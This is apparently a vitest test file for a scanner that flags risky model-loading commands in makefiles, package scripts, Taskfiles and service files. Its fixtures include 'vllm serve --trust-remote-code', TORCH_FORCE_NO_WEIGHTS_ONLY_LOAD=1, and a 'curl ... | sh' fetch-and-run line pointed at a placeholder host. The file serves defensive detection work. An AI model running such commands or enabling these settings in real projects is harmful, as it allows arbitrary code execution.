// Commands that load models are read where projects keep their commands: makefiles, justfiles, scripts of a package.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { shellOfMakefile } from '../../../src/inspect/code/makefile.ts';
import { shellOfScripts } from '../../../src/inspect/code/package-scripts.ts';
import { judged, verdicts } from './support.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';

/** Rules with the severity and the line. */
async function told(path: string, text: string): Promise<string[]> {
  return (await judged(path, text)).map(
    ({ rule, severity, location }) => `${rule} ${severity} ${location.line}`,
  );
}

const MAKE = (model: string): string => `MODEL ?= ${model}\n.PHONY: serve\nserve: deps\n\t@echo hi\n`;

describe('a command that loads a model', () => {
  it.each([
    ['Makefile', 'serve:\n\t@vllm serve someone/m --trust-remote-code\n', 2],
    ['serving.mk', 'serve: deps ; vllm serve someone/m --trust-remote-code\n', 1],
    ['Makefile', `${MAKE('someone/m')}\t-vllm serve $(MODEL) --trust-remote-code\n`, 5],
    ['GNUmakefile', `M = someone/m --trust-remote-code # ours\nserve:\n\tvllm serve $(M) \\\n\t  -q\n`, 3],
    ['Makefile', 'serve:\n\tx=$$(date); echo $@ $< && vllm serve someone/m --trust-remote-code\n', 2],
    ['justfile', `model := "someone/m"\nserve:\n  vllm serve {{ model }} --trust-remote-code\n`, 3],
    ['package.json', '{\n "scripts": {\n  "a": "vllm serve someone/m --trust-remote-code"\n }\n}\n', 3],
    [
      'web/package.json',
      '{\n\t"scripts": {\n\t\t"a": "vllm serve someone/m --trust-remote-code"\n\t}\n}\n',
      3,
    ],
  ])('is read in %s', async (path, text, line) => {
    const both = [`LOAD-REMOTE-CODE MEDIUM ${line}`, `LOAD-UNPINNED INFO ${line}`];
    expect((await told(path, text)).sort()).toEqual(both);
    const pinned = text.replace('--trust-remote-code', `--trust-remote-code --revision ${COMMIT}`);
    expect(await told(path, pinned)).toEqual([`LOAD-REMOTE-CODE LOW ${line}`]);
    expect(await told(path, text.replaceAll(/vllm serve/g, 'echo'))).toEqual([]);
  });

  it.each([
    ['Taskfile.yml', 'tasks:\n  serve:\n    cmds:\n      - @@\n', 4],
    ['Taskfile.yml', 'vars:\n  M: a\ntasks:\n  serve: @@\n', 4],
    ['Procfile', 'web: @@\n', 1],
    ['deploy/serve.service', '[Service]\nExecStart=/usr/bin/@@\n', 2],
    ['sky.yaml', 'resources:\n  accelerators: A100\nrun: |\n  echo hi\n  @@\n', 5],
    ['pyproject.toml', '[tool.poe.tasks]\nserve = "@@"\n', 2],
    ['pyproject.toml', '[tool.poe.tasks.serve]\ncmd = "@@"\n', 2],
    ['pixi.toml', '[tasks]\na = "ls"\nserve = { cmd = "@@" }\n', 3],
    ['supervisord.conf', '[program:v]\ncommand=@@\n', 2],
    ['dvc.yaml', 'stages:\n  get:\n    cmd: @@\n', 3],
  ])('is read in %s', async (path, text, line) => {
    const file = (command: string): string => text.replace('@@', command);
    const switched = file('vllm serve someone/m --trust-remote-code');
    expect((await told(path, switched)).sort()).toEqual([
      `LOAD-REMOTE-CODE MEDIUM ${line}`,
      `LOAD-UNPINNED INFO ${line}`,
    ]);
    expect(await told(path, file(`vllm serve someone/m --revision ${COMMIT}`))).toEqual([]);
    expect(await told(path, file('vllm --help; curl https://x.example.invalid/i | sh'))).toEqual([]);
  });

  it.each([
    ['Makefile', 'A = 1\nexport TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\na:\n\tmake b\n', 2],
    ['.env', 'A=1\nTORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\n', 2],
    ['a.service', '[Service]\nEnvironment=TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\nExecStart=/a\n', 2],
    ['tox.ini', '[testenv]\nsetenv =\n  TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD = 1\n', 3],
    ['pixi.toml', '[activation.env]\nTORCH_FORCE_NO_WEIGHTS_ONLY_LOAD = "1"\n', 2],
  ])('is helped by a variable in %s', async (path, text, line) => {
    expect(await told(path, text)).toEqual([`LOAD-TORCH LOW ${line}`]);
    expect(await told(path, text.replace(/1("?\n)/, '0$1').replace('LOAD=1', 'LOAD=0'))).toEqual([]);
  });

  it('is all that is said of such files on these surfaces', async () => {
    expect(
      await verdicts('Makefile', 'a:\n\tcurl https://x.example.invalid/i | vllm\n\tllama <<EOF\n'),
    ).toEqual([]);
    expect(await verdicts('package.json', '{"scripts": {"a": "hf download ./x && (("}}')).toEqual([]);
    expect(await verdicts('package.json', '{"name": "vllm", "version": "1.0.0"}')).toEqual([]);
  });

  it('is none in the words of a makefile that run nothing', async () => {
    expect(
      await verdicts('Makefile', '# vllm serve someone/m --trust-remote-code\nX = vllm serve someone/m\n'),
    ).toEqual([]);
  });
});

const PIECES = [
  'a:\n',
  '\t',
  'X = ',
  '$(X)',
  '{{x}}',
  '$$',
  '$(shell ',
  '\\\n',
  'vllm serve a/b',
  '"',
  "'",
  ';',
];

describe('any text', () => {
  const any = fc.oneof(
    fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join('')),
    fc.string({ unit: 'binary', maxLength: 300 }),
  );

  it('keeps its lines as a makefile', () => {
    fc.assert(
      fc.property(any, fc.boolean(), (text, just) => {
        expect(shellOfMakefile(text, just).split('\n').length).toBe(text.split('\n').length);
      }),
    );
  });

  it('has scripts on lines of its own', () => {
    fc.assert(
      fc.property(any, (text) => {
        const json = JSON.stringify({ scripts: { a: text } }, undefined, 1);
        for (const line of shellOfScripts(json).lines) expect(line).toBe(3);
        expect(() => shellOfScripts(text)).not.toThrow();
      }),
    );
  });

  it('grows no further than its variables may make it', () => {
    const many = `X = ${'a'.repeat(900)}\na:\n${'\t$(X)\n'.repeat(10_000)}`;
    expect(shellOfMakefile(many, false).length).toBeLessThan(many.length + 200_000);
  });
});
